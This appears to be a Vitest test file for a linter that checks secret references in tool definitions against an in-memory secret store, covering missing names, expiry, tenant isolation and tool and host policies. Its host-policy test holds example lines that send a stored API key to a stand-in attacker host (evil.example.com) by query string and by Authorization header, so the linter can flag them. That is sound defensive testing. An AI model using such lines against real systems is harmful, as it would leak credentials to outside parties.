/**
 * Store-backed rules against an embedded PGlite store: missing names with case-only and
 * near-miss suggestions, optional references, expiry, policy by tool and host, the environment
 * overlay, and the cost (one inspectMany round trip, one listing only when something is missing).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lint } from '../../src/lint/index.js';
import { keygen } from '../../src/store/crypto-key.js';
import { openStore } from '../../src/store/open.js';
import type { ScopedStore, Store } from '../../src/store/types.js';

const DEV = '11111111-2222-3333-4444-555555555555';
const OTHER = '99999999-2222-3333-4444-555555555555';
const NOW = Date.parse('2030-01-15T12:00:00Z');
const DAY = 86_400_000;

let store: Store;
let secrets: ScopedStore;

beforeAll(async () => {
  store = await openStore({ url: 'memory:', masterKey: keygen() });
  secrets = store.scope(DEV);
  await secrets.create({ name: 'stripe_api_key', value: 'v-stripe' });
  await secrets.create({ name: 'GITHUB_TOKEN', value: 'v-gh' });
  await secrets.create({ name: 'expired_key', value: 'v-old', expiresAt: new Date(NOW - DAY) });
  await secrets.create({ name: 'expiring_key', value: 'v-soon', expiresAt: new Date(NOW + 3 * DAY) });
  await secrets.create({ name: 'later_key', value: 'v-later', expiresAt: new Date(NOW + 60 * DAY) });
  await secrets.create({ name: 'billing_only', value: 'v-b', allowedTools: ['billing'] });
  await secrets.create({ name: 'stripe_host_only', value: 'v-h', allowedHosts: ['api.stripe.com'] });
  await secrets.create({ name: 'db_password', value: 'v-dev-db' });
  await secrets.create({ name: 'prod_db_password', value: 'v-prod-db' });
  await store.scope(OTHER).create({ name: 'other_tenant_key', value: 'v-other' });
}, 120_000);

afterAll(async () => {
  await store?.close();
});

async function run(source: string, opts: Parameters<typeof lint>[1] = {}) {
  return lint(source, { store, developerId: DEV, now: NOW, ...opts });
}

function codes(ds: { code: string; severity: string; range: { start: { line: number } } }[]) {
  return ds.map((d) => `${d.range.start.line} ${d.severity} ${d.code}`);
}

describe('lint with a store', () => {
  it('reports nothing for existing, unrestricted, long-lived secrets', async () => {
    const ds = await run('name: pay\nurl: https://api.stripe.com/v1\nkey: $secrets.stripe_api_key\nlater: $secrets.later_key\n');
    expect(codes(ds)).toEqual([]);
  });

  it('missing: an error with case-only suggestions first, then near misses', async () => {
    const ds = await run('name: t\na: $secrets.github_token\nb: $secrets.stripe_api_kye\nc: $secrets.nothing_like_it\n');
    expect(codes(ds)).toEqual(['2 error SECRET_NOT_FOUND', '3 error SECRET_NOT_FOUND', '4 error SECRET_NOT_FOUND']);
    expect(ds[0]?.suggestion).toBe('GITHUB_TOKEN');
    expect(ds[0]?.name).toBe('github_token');
    expect(ds[1]?.suggestion).toBe('stripe_api_key');
    expect(ds[2]?.suggestion).toBeUndefined();
    expect(ds[0]?.range).toEqual({ start: { line: 2, column: 4 }, end: { line: 2, column: 25 } });
  });

  it("another developer's secret is indistinguishable from an absent one", async () => {
    const ds = await run('name: t\na: $secrets.other_tenant_key\n');
    expect(codes(ds)).toEqual(['2 error SECRET_NOT_FOUND']);
    expect(ds[0]?.suggestion).toBeUndefined();
  });

  it('a missing optional reference (?? or default) is a warning', async () => {
    const ds = await run(`name: t\na: "$ secrets.maybe_key ?? 'none'"\nb: "{{ secrets.maybe_other | default('x') }}"\n`);
    expect(codes(ds)).toEqual(['2 warning SECRET_NOT_FOUND', '3 warning SECRET_NOT_FOUND']);
  });

  it('expired is an error; expiring within 14 days (configurable) is a warning', async () => {
    const src = 'name: t\na: $secrets.expired_key\nb: $secrets.expiring_key\nc: $secrets.later_key\n';
    expect(codes(await run(src))).toEqual(['2 error SECRET_EXPIRED', '3 warning SECRET_EXPIRING']);
    expect(codes(await run(src, { expiringWithinDays: 90 }))).toEqual(['2 error SECRET_EXPIRED', '3 warning SECRET_EXPIRING', '4 warning SECRET_EXPIRING']);
    expect(codes(await run(src, { expiringWithinDays: 1 }))).toEqual(['2 error SECRET_EXPIRED']);
  });

  it('policy: allowedTools must include the definition name', async () => {
    expect(codes(await run('name: billing\nk: $secrets.billing_only\n'))).toEqual([]);
    expect(codes(await run('name: weather\nk: $secrets.billing_only\n'))).toEqual(['2 error PERMISSION_DENIED']);
    // Each item of a tools list is its own tool. A render refuses the name at each of its
    // references (one resolution per render), so lint reports it at each, naming the tool refused.
    const list = 'tools:\n  - name: billing\n    k: $secrets.billing_only\n  - name: crm\n    k: $secrets.billing_only\n';
    const ds = await run(list);
    expect(codes(ds)).toEqual(['3 error PERMISSION_DENIED', '5 error PERMISSION_DENIED']);
    expect(ds[0]?.message).toContain('"crm"');
    expect(ds[0]?.message).not.toContain('"billing"');
  });

  it('policy: allowedHosts must include the host the value is sent to', async () => {
    const ok = 'name: t\nurl: "https://api.stripe.com/v1/charges?key=$secrets.stripe_host_only"\n';
    expect(codes(await run(ok))).toEqual([]);
    const bad = 'name: t\nurl: "https://evil.example.com/collect?key=$secrets.stripe_host_only"\n';
    expect(codes(await run(bad))).toEqual(['2 error PERMISSION_DENIED']);
    // A header goes to the URL of the nearest url field.
    const header = 'name: t\napi_call:\n  url: https://evil.example.com/x\n  headers:\n    Authorization: Bearer $secrets.stripe_host_only\n';
    expect(codes(await run(header))).toEqual(['5 error PERMISSION_DENIED']);
    // Nowhere to read a host from: a host-limited secret fails closed.
    const nowhere = 'name: t\nheaders:\n  Authorization: Bearer $secrets.stripe_host_only\n';
    expect(codes(await run(nowhere))).toEqual(['3 error PERMISSION_DENIED']);
  });

  it('environment overlay: says which concrete name resolves', async () => {
    const ds = await run('name: t\na: $secrets.db_password\nb: $secrets.stripe_api_key\n', { environment: 'prod' });
    expect(codes(ds)).toEqual(['2 info ENVIRONMENT_OVERLAY', '3 info ENVIRONMENT_OVERLAY']);
    expect(ds[0]?.message).toContain('"prod_db_password"');
    expect(ds[1]?.message).toContain('"stripe_api_key"');
    // A near miss under an environment is suggested by its unprefixed name too.
    const miss = await run('name: t\na: $secrets.db_pasword\n', { environment: 'prod' });
    expect(codes(miss)).toEqual(['2 error SECRET_NOT_FOUND']);
    expect(miss[0]?.suggestion).toBe('db_password');
  });

  it('costs one inspectMany round trip, plus one listing only when a name is missing', async () => {
    const many = Array.from({ length: 40 }, (_, i) => `k${i}: $secrets.${i % 2 ? 'stripe_api_key' : 'db_password'}`).join('\n');
    let before = store.stats().queries;
    await run(`name: t\n${many}\n`, { environment: 'prod' });
    expect(store.stats().queries - before).toBe(1);
    before = store.stats().queries;
    await run(`name: t\n${many}\nx: $secrets.missing_one\ny: $secrets.missing_two\n`);
    expect(store.stats().queries - before).toBe(2);
  });

  it('accepts a scoped store', async () => {
    const ds = await lint('name: t\na: $secrets.stripe_api_kye\n', { store: secrets, now: NOW });
    expect(codes(ds)).toEqual(['2 error SECRET_NOT_FOUND']);
  });

  it('offline rules still run alongside the store rules, in one sorted list', async () => {
    const ds = await run('name: t\ndescription: uses $secrets.stripe_api_key\nb: $secrets.expired_key\nc: Bearer $secret.x\n');
    expect(codes(ds)).toEqual(['2 error SECRET_IN_MODEL_FIELD', '3 error SECRET_EXPIRED', '4 warning LOOKS_LIKE_REFERENCE']);
  });
});
